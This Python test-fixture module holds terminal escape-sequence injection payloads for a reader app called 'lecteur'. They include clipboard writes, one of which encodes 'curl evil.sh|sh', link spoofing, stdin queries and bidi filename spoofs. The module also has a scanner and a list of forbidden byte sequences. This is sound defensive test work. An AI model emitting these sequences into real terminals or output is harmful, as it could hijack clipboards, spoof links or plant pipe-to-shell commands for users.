"""The hostile payloads the batteries feed lecteur, and the oracle for terminal bytes.

`PAYLOADS` holds sequences a terminal acts on, written for lecteur's tests from the
ECMA-48 and xterm control-sequence documentation: clipboard writes, links, titles,
queries that make the terminal answer on stdin, screen and mode changes, the C1
(8-bit) forms of each, unterminated ones, and the Unicode characters that reorder or hide
text. `MARKUP` holds Rich/Textual markup that must show as text. `scan` lists the escape
sequences in a byte stream, and `forbidden` says which of them lecteur must never send.
"""

from __future__ import annotations

import re

OSC_PAYLOADS = [
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",  # clipboard write
    "\x1b]52;c;?\x1b\\",  # clipboard read request
    "\x1b]8;;https://phish.example\x1b\\lemonde.fr\x1b]8;;\x1b\\",  # link spoof
    "\x1b]0;pwned-title\x07", "\x1b]1;pwned-icon\x07", "\x1b]2;pwned-window\x1b\\",
    "\x1b]4;1;rgb:ff/00/00\x07",  # palette change
    "\x1b]7;file:///etc/pwned\x07",  # current directory
    "\x1b]9;7;calc.exe\x07",  # ConEmu run
    "\x1b]10;?\x07", "\x1b]11;?\x07",  # colour queries (answered on stdin)
    "\x1b]104\x07", "\x1b]133;A\x07", "\x1b]777;notify;pwned;body\x07",
    "\x1b]1337;File=name=cHduZWQ=:aGVsbG8=\x07",  # iTerm2 file download
    "\x1b]52;c;unterminated-payload",  # no terminator: text to the end
]
CSI_PAYLOADS = [
    "\x1b[2J\x1b[H", "\x1b[3J", "\x1b[10A", "\x1b[99;99H", "\x1b[6n", "\x1b[5n",
    "\x1b[c", "\x1b[>c", "\x1b[=c", "\x1b[21t", "\x1b[14t", "\x1b[18t", "\x1b[8;1;1t",
    "\x1b[?1049h", "\x1b[?1000h", "\x1b[?2004l", "\x1b[?25l", "\x1b[8m hidden",
    "\x1b[1;24r", "\x1b[4i", "\x1b[?5h", "\x1b[0c", "\x1b[?u", "\x1b[>4;2m",
]
OTHER_PAYLOADS = [
    "\x1bP1$qm\x1b\\", "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\", "\x1bPq#0;2;0;0;0#0!10~\x1b\\",
    "\x1b_Gf=100,a=T;aGVsbG8=\x1b\\", "\x1b^privacy message\x1b\\", "\x1bXstart of string\x1b\\",
    "\x1bc", "\x1bZ", "\x1b#8", "\x1b(0lqk\x1b(B", "\x1b7\x1b8", "\x1bD\x1bM\x1bE",
    "\x1b=", "\x1bN\x1bO",
]
C1_PAYLOADS = [
    "\x9b2J", "\x9b6n", "\x9d0;pwned\x9c", "\x9d52;c;eA==\x07", "\x90q\x9c", "\x98sos\x9c",
    "\x9epm\x9c", "\x9fapc\x9c", "\x84\x85\x88\x8d\x8e\x8f\x9a",
]
CONTROL_PAYLOADS = [
    "bell\x07 back\x08 tab\t vt\x0b ff\x0c cr\r so\x0e si\x0f del\x7f nul\x00 sub\x1a",
    "\x1b", "\x1b[", "\x1b]", "text\x1b",
]
BIDI_PAYLOADS = [
    "invoice\u202egnp.exe", "\u202aLRE\u202bRLE\u202cPDF\u202dLRO",
    "\u2066LRI\u2067RLI\u2068FSI\u2069",
    "a\u200bb\u200cc\u200dd\u200ee\u200ff", "\u061cALM", "word\u2060joiner", "\ufeffbom",
    "tags\U000e0041\U000e0042", "line\u2028sep\u2029para",
]
PAYLOADS = (OSC_PAYLOADS + CSI_PAYLOADS + OTHER_PAYLOADS + C1_PAYLOADS + CONTROL_PAYLOADS
            + BIDI_PAYLOADS)

MARKUP = [
    "[AFP] Le président répond", "[VIDÉO] Un réseau qui tient", "[TODO] Q3", "[/", "x [/] y",
    "[/INST]", "[#ff0]hello", "[b]gras[/b]", "[bold red]rouge", "[@click=app.quit]Lire la suite[/]",
    "[@click=app.bell]cloche[/]", "[link=file:///etc/passwd]Source[/]", "[IMPORTANT]",
    "$variable [$accent]x[/]", "\\[échappé]", "[on red]fond[/on red]", "[reverse]x",
    "[@click=screen.dismiss]fermer[/]", ":warning: :smile:", "[[double]]",
]

# The bytes of the payloads that must never reach the terminal, whatever else happens:
# the active sequences themselves. What is left of a payload once its ESC is gone
# ("]0;pwned-title" as letters) is inert text, and may be shown.
NEVER = [b"\x1b]52", b"\x1b]0;pwned", b"\x1b]1;pwned", b"\x1b]2;pwned", b"\x1b]8;;https://phish",
         b"\x1b]7;", b"\x1b]9;", b"\x1b]777", b"\x1b]1337", b"\x1b[6n", b"\x1b[5n",
         b"\x1b[21t", b"\x1b[14t", b"\x1b[18t", b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX",
         b"\x1bc", b"\x1bZ", b"\x1b#8", b"\x1b(0", b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x90",
         b"\xc2\x9e", b"\xc2\x9f", b"\xc2\x98", b"\x07"]

_SEQUENCE = re.compile(
    rb"\x1b\[(?P<csi_private>[<=>?]?)(?P<csi_params>[0-9;:]*)(?P<csi_inter>[ -/]*)"
    rb"(?P<csi_final>[@-~])"
    rb"|\x1b\](?P<osc>[0-9]*)[^\x07\x1b]*(?:\x07|\x1b\\)?"
    rb"|\x1b(?P<string>[P^_X])"
    rb"|\x1b(?P<esc>[ -/]*[0-~])"
    rb"|(?P<c1>\xc2[\x80-\x9f])"
    rb"|(?P<lone>\x1b)",
)


def scan(data: bytes) -> set[str]:
    """The kinds of escape sequence in `data`: ``CSI ?h``, ``OSC 22``, ``DCS``, ``C1`` ..."""
    kinds = set()
    for match in _SEQUENCE.finditer(data):
        if match["csi_final"] is not None:
            kinds.add(f"CSI {match['csi_private'].decode()}{match['csi_inter'].decode()}"
                      f"{match['csi_final'].decode()}")
        elif match["osc"] is not None:
            kinds.add(f"OSC {match['osc'].decode()}")
        elif match["string"] is not None:
            kinds.add({"P": "DCS", "^": "PM", "_": "APC", "X": "SOS"}[match["string"].decode()])
        elif match["esc"] is not None:
            kinds.add(f"ESC {match['esc'].decode()}")
        elif match["c1"] is not None:
            kinds.add("C1")
        else:
            kinds.add("ESC alone")
    return kinds


# Queries that make a terminal write back to the program's stdin, and other sequences a
# page's text could use to act: never sent by lecteur, whatever Textual does.
_FORBIDDEN_KINDS = {"DCS", "PM", "APC", "SOS", "C1", "ESC alone", "CSI n", "CSI t", "CSI c",
                    "CSI >c", "CSI =c", "CSI i", "ESC c", "ESC Z", "ESC #8", "ESC (0"}


def forbidden(kinds: set[str], allowed: set[str]) -> set[str]:
    """The kinds lecteur must not send: the always-forbidden, and any not in `allowed`."""
    return {kind for kind in kinds if kind in _FORBIDDEN_KINDS or kind not in allowed}


_POINTER_SHAPE = re.compile(rb"\x1b\]22;[a-z-]*(?:\x07|\x1b\\)")  # Textual's own OSC 22


def leaks(output: bytes) -> list[bytes]:
    """The `NEVER` byte sequences found in `output` (Textual's OSC 22, whose BEL ends it,
    set aside)."""
    output = _POINTER_SHAPE.sub(b"", output)
    return [needle for needle in NEVER if needle in output]
